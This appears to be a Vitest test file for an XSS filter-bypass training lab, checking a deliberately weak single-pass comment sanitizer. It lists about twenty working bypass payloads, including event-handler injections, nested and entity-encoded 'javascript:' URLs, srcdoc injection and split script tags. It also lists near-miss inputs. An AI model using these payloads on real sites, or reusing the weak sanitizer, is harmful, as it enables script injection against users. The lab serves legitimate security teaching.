import { describe, expect, it } from 'vitest';

import { expectFlag, expectNoFlag, runLab } from '../lab-test-helpers.js';

import { sanitizeComment, xssFilterBypassLab } from './xss-filter-bypass.js';

function post(html: string) {
  return runLab(xssFilterBypassLab, 'comment', { html });
}

describe('sanitizeComment', () => {
  it('strips script elements and stray script tags, whatever their case', () => {
    expect(sanitizeComment('a<script>alert(1)</script>b')).toBe('ab');
    expect(sanitizeComment('a<ScRiPt src="x.js"></sCrIpT>b')).toBe('ab');
    expect(sanitizeComment('a<script>b')).toBe('ab');
    expect(sanitizeComment('a</SCRIPT >b')).toBe('ab');
  });

  it('strips javascript: and onerror=, whatever their case, in one pass', () => {
    expect(sanitizeComment('<a href="JavaScript:alert(1)">x</a>')).toBe('<a href="alert(1)">x</a>');
    expect(sanitizeComment('<b OnError=alert(1)>x</b>')).toBe('<b alert(1)>x</b>');
    expect(sanitizeComment('javajavascript:script:')).toBe('javascript:');
  });
});

describe('xss-filter-bypass lab: payloads a browser would run succeed', () => {
  it.each([
    ['<svg onload=alert(1)>', 'onload on <svg>'],
    ['<body ONLOAD="alert(1)">', 'onload on <body>'],
    ['<img src=x onerror =alert(1)>', 'onerror on <img>'],
    ['<img src=x ononerror=error=alert(1)>', 'onerror on <img>'],
    ['<details open ontoggle=alert(1)>', 'ontoggle on <details>'],
    ['<input autofocus onfocus=alert(1)>', 'onfocus on <input>'],
    ['<div tabindex=1 autofocus onfocusin=alert(1)>x</div>', 'onfocusin on <div>'],
    ['<iframe onload=alert(1)>', 'onload on <iframe>'],
    ['<style onload=alert(1)></style>', 'onload on <style>'],
    ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 'onbegin on <animate>'],
    ['<video src=x onloadstart=alert(1)>', 'onloadstart on <video>'],
    ['<audio src=x ononerror=error=alert(1)>', 'onerror on <audio>'],
    ['<body onpageshow=alert(1)>', 'onpageshow on <body>'],
    ['<iframe src="javajavascript:script:alert(1)">', 'javascript: URL in <iframe src>'],
    ['<iframe src="jav&#x61;script:alert(1)">', 'javascript: URL in <iframe src>'],
    ['<iframe src="java\tscript:alert(1)">', 'javascript: URL in <iframe src>'],
    ['<iframe srcdoc="&lt;img src=x onerror&#61;alert(1)&gt;">', 'onerror on <img> in <iframe srcdoc>'],
    ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', '<script> in <iframe srcdoc>'],
    ['<scr<script>ipt>alert(1)</scr<script>ipt>', '<script>'],
    ['<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>', 'onanimationstart on <b>'],
  ])('%j (%s)', (html, reason) => {
    const result = post(html);
    expect(result.code).toBe('bypassed');
    expect(result.output).toMatchObject({ html: sanitizeComment(html), reason });
    expectFlag(result);
  });
});

describe('xss-filter-bypass lab: near-misses fail', () => {
  it.each([
    '<script>alert(1)</script>',
    '<IMG SRC=x onerror=alert(1)>',
    '<img src=cat.png>',
    'onload',
    'I love the onload event and <img> tags with a src',
    '<img onload=alert(1)>',
    '<img alt=x onerror =alert(1)>',
    '<details ontoggle=alert(1)>',
    '<iframe src="javascript:alert(1)">',
    '<template><svg onload=alert(1)></svg></template>',
    '<textarea><svg onload=alert(1)></textarea>',
    '<!-- <svg onload=alert(1)> -->',
    '<svg onload="">',
    '<b onclick>x</b>',
    '<b style="animation-name:x" onanimationstart=alert(1)>x</b>',
    'hello',
    '',
  ])('%j: nothing runs', (html) => {
    const result = post(html);
    expect(result.code).toBe('filtered');
    expect(result.output.html).toBe(sanitizeComment(html));
    expectNoFlag(result);
  });

  it.each([
    ['<img src=x onmouseover=alert(1)>', 'onmouseover on <img>'],
    ['<a href="jav&#x61;script:alert(1)">click me</a>', 'javascript: URL in <a href>'],
    ['<a href="javajavascript:script:alert(1)">x</a>', 'javascript: URL in <a href>'],
    ['<button onclick=alert(1)>x</button>', 'onclick on <button>'],
    ['<input onfocus=alert(1)>', 'onfocus on <input>'],
    ['<form><button formaction="javajavascript:script:alert(1)">go</button></form>', 'javascript: URL in <button formaction>'],
  ])('%j would need the victim to interact: no flag', (html, reason) => {
    const result = post(html);
    expect(result.code).toBe('needs-interaction');
    expect(result.output.reason).toBe(reason);
    expectNoFlag(result);
  });

  it('answers unknown-action to anything else', () => {
    expect(runLab(xssFilterBypassLab, 'post').code).toBe('unknown-action');
  });
});
